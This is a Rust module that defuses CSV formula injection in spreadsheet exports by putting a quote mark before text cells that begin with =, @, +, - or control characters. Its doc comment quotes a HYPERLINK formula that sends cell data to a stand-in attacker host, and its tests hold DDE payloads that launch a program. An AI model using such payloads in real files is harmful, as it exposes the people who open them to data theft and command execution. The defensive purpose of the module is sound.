//! Text cells that a spreadsheet would run as a formula ("CSV injection"): Excel, LibreOffice
//! and Google Sheets evaluate a CSV cell that starts with `=`, `+`, `-` or `@` (and some treat a
//! leading tab or carriage return the same way), so a record holding
//! `=HYPERLINK("http://evil.example?"&A1, "Click")` would send other cells away, or start a
//! program through DDE, when the export is opened. Such text gets a `'` in front, the mark
//! spreadsheets use for "this is text".
//!
//! Only text is changed. Numbers and money are written by their own types and never get a
//! mark, so `-12.50` stays a number. A text cell that starts with `+` or `-` and holds nothing
//! but digits, spaces and `.,()/+-` (a phone number such as `+44 20 7946 0018`, a signed
//! amount typed as text) is left as it is: without letters it can name no function, no cell
//! and no other program, so the worst a spreadsheet can make of it is a number.
//!
//! ```
//! use cardbase_engine::export::formulas::{Formulas, defuse};
//! assert_eq!(defuse("=1+2", Formulas::Defuse), "'=1+2");
//! assert_eq!(defuse("+44 20 7946 0018", Formulas::Defuse), "+44 20 7946 0018");
//! assert_eq!(defuse("=1+2", Formulas::Raw), "=1+2");
//! ```

use std::borrow::Cow;

/// What a CSV writer does with text that a spreadsheet would take for a formula.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Formulas {
    /// Put a `'` in front, so a spreadsheet shows the text instead of running it.
    #[default]
    Defuse,
    /// Write the text as it is, for a program that reads the file as data (or a user who
    /// wants the formulas).
    Raw,
}

/// The text to write for a text cell.
pub fn defuse(text: &str, formulas: Formulas) -> Cow<'_, str> {
    if formulas == Formulas::Raw || !runs_as_formula(text) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{text}"))
}

/// Whether a spreadsheet opening the CSV would evaluate this text.
fn runs_as_formula(text: &str) -> bool {
    let mut chars = text.chars();
    match chars.next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !chars.all(|c| c.is_ascii_digit() || " .,()/+-".contains(c)),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_a_spreadsheet_would_run_gets_a_quote() {
        for text in [
            "=HYPERLINK(\"http://x\",\"y\")",
            "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            "=",
            "-A1",
        ] {
            assert_eq!(defuse(text, Formulas::Defuse), format!("'{text}"), "{text:?}");
            assert_eq!(defuse(text, Formulas::Raw), text);
        }
    }

    #[test]
    fn plain_text_phone_numbers_and_signed_amounts_stay_as_they_are() {
        for text in [
            "Ada",
            "",
            "+44 20 7946 0018",
            "-12.50",
            "+1 (555) 010-0199",
            "a=b",
            "' quoted",
            "1-2",
        ] {
            assert_eq!(defuse(text, Formulas::Defuse), text, "{text:?}");
        }
    }
}
